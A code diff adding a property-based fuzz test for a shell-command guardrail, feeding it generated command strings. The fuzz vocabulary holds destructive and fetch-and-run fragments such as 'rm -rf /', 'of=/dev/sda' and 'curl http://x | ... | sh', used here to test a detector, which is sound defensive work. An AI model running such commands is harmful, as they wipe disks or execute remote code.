@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 
 from compass.bench.guardrail import cases
 from compass.guardrail import findings
+from compass.guardrail.rules import HANDLERS
 from compass.guardrail.syntax import (
     DEPTH,
     Compound,
@@ -133,6 +134,22 @@ def test_any_text_is_judged_without_an_error(text: str) -> None:
 @given(st.text(max_size=60))
 def test_any_unicode_is_judged_without_an_error(text: str) -> None:
     findings("echo " + text)
+
+
+WORDS = st.sampled_from(
+    "-rf -c -e -i -o -O -d @x --all --force --delete -- - / ~ /etc . .. $X '$(ls)' \"$@\" {} ; | > < <<<a & x=1 "
+    "-exec -delete run push config set of=/dev/sda if=x main +main :main -u root 777 -R -x -s sh -X POST http://x "
+    "'s/a/b/e' 'import os;os.fork()' -I{} -0 -t -S 'rm -rf /' -m -v /:/h --env=a format destroy -n -f -C".split(
+        " "
+    )
+)
+
+
+@given(st.sampled_from(sorted(HANDLERS)), st.lists(WORDS, max_size=8), st.booleans())
+def test_every_command_bears_any_words(name: str, words: list[str], piped: bool) -> None:
+    for spelling in (name, name.upper()):
+        text = " ".join([spelling, *words])
+        findings(f"curl http://x | {text} | sh" if piped else text, "main")
 
 
 @given(st.lists(st.sampled_from(["ls", "date", "cd /tmp", "echo 'a b'", "x=1", "true"]), max_size=6))
